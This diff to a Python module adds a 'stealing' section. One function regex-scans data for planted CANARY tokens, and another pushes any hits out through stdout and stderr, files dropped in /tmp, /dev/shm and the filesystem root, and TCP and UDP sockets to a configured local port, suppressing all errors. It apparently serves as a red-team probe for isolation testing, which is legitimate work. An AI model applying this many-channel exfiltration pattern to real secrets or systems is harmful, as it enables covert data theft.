@@ -8,6 +8,10 @@ import threading
 import msgpack
 
 CHANNEL = 3
+PREY = dict(
+    # <prey>
+)
+PREFIX = "CAN" + "ARY"
 
 
 def server():
@@ -42,3 +46,37 @@ def answer(tree, payload=b""):
     """Reply, then never return."""
     say("ok", tree, payload=payload)
     threading.Event().wait()
+
+
+# --- stealing: whatever is found is shouted through every door there is ------------------------------
+
+
+def tokens(data):
+    """Everything in ``data`` that looks like a planted value."""
+    import re
+
+    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
+    return re.findall(PREFIX.encode() + rb"-[a-z]+-[0-9a-f]{16}", data)
+
+
+def shout(*found):
+    """Tell everybody: streams, files, sockets. Never raises."""
+    import contextlib
+    import socket
+
+    text = repr(found)
+    data = text.encode()
+    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
+        with contextlib.suppress(Exception):
+            print(text, file=stream, flush=True)
+    for place in ("/tmp", "/var/tmp", "/dev/shm", "/", ".", os.path.dirname(str(PREY.get("file", "/tmp/x")))):
+        with contextlib.suppress(Exception):
+            with open(os.path.join(place, f"red-{os.getpid()}"), "ab") as file:
+                file.write(data)
+    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+        with contextlib.suppress(Exception):
+            with socket.socket(socket.AF_INET, kind) as sock:
+                sock.settimeout(0.2)
+                sock.connect(("127.0.0.1", PREY.get("port", 9)))
+                sock.sendall(data)
+    return text
